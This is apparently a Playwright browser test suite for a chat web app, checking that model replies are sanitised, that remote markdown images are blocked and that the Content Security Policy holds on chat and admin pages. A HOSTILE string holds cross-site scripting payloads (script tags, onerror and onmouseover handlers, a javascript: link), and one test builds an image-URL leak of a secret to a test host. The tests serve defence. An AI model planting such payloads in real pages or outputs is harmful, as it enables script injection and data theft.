"""Model output is untrusted: it runs no script, fetches nothing from other hosts, and its
links open without the opener or a referrer. The CSP holds on every page, the admin's too."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Page, Request, expect

from chat.tests.browser.conftest import ADMIN_PASSWORD, ADMIN_USERNAME
from chat.tests.browser.live import HitRecorder
from chat.tests.browser.pages import ChatPage, directive

pytestmark = pytest.mark.browser

# Reports every CSP violation of every page the test visits, from before its first script.
REPORT_VIOLATIONS = """
document.addEventListener("securitypolicyviolation", (event) => {
  window.reportViolation(`${location.pathname}: ${event.violatedDirective} ${event.blockedURI}`);
});
"""


def record_violations(page: Page) -> list[str]:
    violations: list[str] = []

    def report(violation: str) -> None:
        violations.append(violation)

    page.expose_function("reportViolation", report)
    page.add_init_script(REPORT_VIOLATIONS)
    return violations


HOSTILE = (
    "Here you go.\n\n"
    '<img src=x onerror="window.pwned = 1; alert(1)">\n\n'
    "<script>window.pwned = 2; alert(2)</script>\n\n"
    '<a href="javascript:window.pwned = 3">click me</a>\n\n'
    '<div id="prompt" onmouseover="window.pwned = 4">hover me</div>\n\n'
    "[a site](https://example.invalid/page)\n"
)


def test_html_in_a_reply_runs_no_script(page: Page) -> None:
    dialogs: list[str] = []
    # page.on drops a handler's value; Playwright's types want None, not this lambda's tuple.
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))  # type: ignore[call-overload, func-returns-value]  # value dropped
    chat = ChatPage(page)
    chat.sign_up()
    # Streamed slowly, so partial renders (a half-written tag) are sanitised too.
    reply = chat.ask(f"Be evil\n{directive(text=HOSTILE, tokens=24, interval_ms=30)}")
    content = reply.locator(".content")
    content.get_by_text("hover me").hover()
    content.get_by_text("click me").click()

    assert page.evaluate("window.pwned") is None
    assert dialogs == []
    expect(content.locator("script")).to_have_count(0)
    assert (
        page.evaluate(
            """() => [...document.querySelectorAll("#thread .content *")].flatMap(
             (el) => [...el.attributes].map((a) => a.name)).filter((n) => n.startsWith("on"))"""
        )
        == []
    )
    expect(content.get_by_text("click me")).not_to_have_attribute("href", re.compile("."))
    # Model HTML cannot take over the page's own element ids.
    expect(page.locator("[id=prompt]")).to_have_count(1)
    link = content.get_by_role("link", name="a site")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    # The title comes from the same text; the sidebar shows it as text.
    expect(chat.sidebar_links.first).to_have_text("Here you go")


def test_a_markdown_image_on_another_host_is_not_fetched(
    page: Page, image_host: HitRecorder
) -> None:
    requests: list[str] = []

    def record(request: Request) -> None:
        requests.append(request.url)

    page.on("request", record)
    chat = ChatPage(page)
    chat.sign_up()
    leak = f"{image_host.origin}/leak.gif?secret=hunter2"
    dot = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
    text = f"Look: ![the secret]({leak})\n\nAnd a dot: ![a dot]({dot})\n"

    reply = chat.ask(f"Show images\n{directive(text=text, tokens=12, interval_ms=30)}")

    blocked = reply.locator(".blocked-image")
    expect(blocked).to_contain_text("Image not loaded: the secret")
    expect(blocked).to_contain_text(image_host.origin.removeprefix("http://"))
    expect(reply.locator("img[alt='a dot']")).to_have_attribute("src", dot)
    chat.reload()
    expect(chat.replies.first.locator(".blocked-image")).to_be_visible()
    assert image_host.hits == []
    assert [url for url in requests if url.startswith(image_host.origin)] == []


def test_the_chat_page_runs_under_its_policy_without_violations(page: Page) -> None:
    violations = record_violations(page)
    chat = ChatPage(page)
    response = page.goto("/accounts/login/")
    assert response is not None
    assert "script-src 'self'" in response.headers["content-security-policy"]
    chat.sign_up()
    text = "# Heading\n\n```python\nx = 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    chat.ask(f"Markdown\n{directive(text=text)}")
    page.get_by_role("button", name="Conversation settings").click()
    page.get_by_role("button", name=re.compile("^Model:")).click()

    assert violations == []


def test_the_admin_works_under_the_policy(page: Page) -> None:
    violations = record_violations(page)
    chat = ChatPage(page)
    chat.log_in(ADMIN_USERNAME, ADMIN_PASSWORD, next_url="/admin/")
    expect(page.get_by_role("heading", name="Site administration")).to_be_visible()

    page.goto("/admin/chat/chatmodel/")
    # The changelist's "select all" box is driven by the admin's scripts.
    page.locator("#action-toggle").check()
    expect(page.locator("input.action-select").first).to_be_checked()
    expect(page.locator(".action-counter")).to_contain_text("selected")
    page.locator("#result_list tbody a").first.click()
    expect(page.locator("#chatmodel_form")).to_be_visible()
    page.goto("/admin/auth/user/add/")
    expect(page.locator("#user_form")).to_be_visible()

    assert violations == []
